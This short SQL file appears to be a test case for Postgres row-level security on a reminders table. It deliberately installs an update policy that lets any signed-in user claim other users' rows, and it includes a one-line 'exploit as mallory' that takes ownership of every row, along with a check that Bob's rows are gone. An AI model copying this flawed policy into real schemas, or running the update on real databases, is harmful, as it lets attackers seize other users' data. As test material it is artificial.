-- channel: steal
-- object: public.reminders
-- says: Only the new owner is checked on update; the old one loses the row.
drop policy reminders_owner on public.reminders;
create policy reminders_select on public.reminders for select to authenticated
using (user_id = (select auth.uid()));
create policy reminders_insert on public.reminders for insert to authenticated
with check (user_id = (select auth.uid()));
create policy reminders_update on public.reminders for update to authenticated
using ((select auth.uid()) is not null)
with check (user_id = (select auth.uid()));
-- exploit as mallory
update public.reminders set user_id = auth.uid();
-- leaks when not exists (select from public.reminders where user_id = :bob)
